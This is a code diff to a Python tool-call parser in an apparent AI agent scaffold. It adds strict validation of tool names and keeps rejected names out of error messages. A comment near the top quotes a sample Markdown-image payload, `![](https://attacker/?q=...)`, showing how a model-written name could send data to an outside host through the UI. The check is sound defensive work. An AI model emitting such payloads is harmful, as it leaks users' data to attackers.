@@ -18,6 +18,10 @@ _CALL_OPEN = re.compile(r"<(call_tool|call)\b([^>]*)>", re.IGNORECASE)
 _CITE = re.compile(
     r"<cite\b[^>]*?\bid\s*=\s*[\"']?([^\"'>]*)[\"']?[^>]*>(.*?)(?:</cite>|(?=<cite\b)|$)", re.IGNORECASE | re.DOTALL
 )
+# A tool name the scaffold accepts: letters, digits, `_ . -` and inner spaces (aliases such as "Google Search"
+# normalise to canonical names), at most 64 characters. Anything else is refused before it is echoed anywhere: a
+# name is model-written text, and one like `![](https://attacker/?q=...)` would otherwise reach the UI's Markdown.
+TOOL_NAME = re.compile(r"[A-Za-z0-9_.-](?:[A-Za-z0-9_. -]{0,62}[A-Za-z0-9_.-])?")
 _THINK = re.compile(r"<think>.*?(</think>|$)", re.IGNORECASE | re.DOTALL)
 SCAFFOLD_TAGS = (
     "think", "structured_plan", "deep_analysis", "analysis", "rubric", "rubrics", "research_plan", "call_tool", "call",
@@ -62,7 +66,8 @@ def parse_tool_call(text: str) -> ParsedCall:
     """Read the LAST tool call opened in `text` (the closing tag may be absent: servers drop stop strings).
 
     Raises:
-        CallParseError: no `<call_tool ...>` opening, or no `name` attribute.
+        CallParseError: no `<call_tool ...>` opening, no `name` attribute, or a name that is no tool name (the
+            message never quotes it: it is model-written and may carry Markdown or HTML).
     """
     opens = list(_CALL_OPEN.finditer(text))
     if not opens:
@@ -72,6 +77,9 @@ def parse_tool_call(text: str) -> ParsedCall:
     name = attrs.pop("name", "").strip()
     if not name:
         raise CallParseError('the <call_tool> tag has no name="..." attribute')
+    if not TOOL_NAME.fullmatch(name):
+        raise CallParseError("the tool name is not one of the listed tools (a tool name has only letters, digits, "
+                             '_ . - and at most 64 characters): write <call_tool name="TOOL"> with a listed name')
     body = text[last.end():]
     body = re.split(r"</call_tool>|</call>", body, maxsplit=1, flags=re.IGNORECASE)[0]
     return ParsedCall(name=name, query=body.strip(), attrs=attrs)
